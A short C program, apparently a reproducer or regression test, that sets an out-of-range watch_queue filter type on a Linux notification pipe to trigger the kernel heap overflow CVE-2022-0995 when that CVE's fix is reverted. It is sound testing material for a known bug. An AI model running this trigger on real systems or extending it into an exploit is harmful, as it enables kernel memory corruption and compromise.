// Sets a notification-pipe filter whose type is above WATCH_TYPE__NR but
// below the second loop's bound: the revert of upstream c993ee0f9f81
// ("watch_queue: Fix filter limit check", CVE-2022-0995) writes past
// the filter allocation.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

/* From <linux/watch_queue.h>, which clashes with glibc's <fcntl.h>. */
#define O_NOTIFICATION_PIPE O_EXCL
#define IOC_WATCH_QUEUE_SET_FILTER _IO('W', 0x61)

struct watch_notification_type_filter {
	uint32_t type, info_filter, info_mask, subtype_filter[8];
};

struct watch_notification_filter {
	uint32_t nr_filters, reserved;
};

int main(void)
{
	struct {
		struct watch_notification_filter f;
		struct watch_notification_type_filter t[1];
	} filter;
	int fds[2];

	if (pipe2(fds, O_NOTIFICATION_PIPE) < 0) {
		perror("pipe2");
		return 1;
	}
	memset(&filter, 0, sizeof(filter));
	filter.f.nr_filters = 1;
	filter.t[0].type = 100;
	if (ioctl(fds[0], IOC_WATCH_QUEUE_SET_FILTER, &filter) < 0)
		perror("IOC_WATCH_QUEUE_SET_FILTER");
	return 0;
}
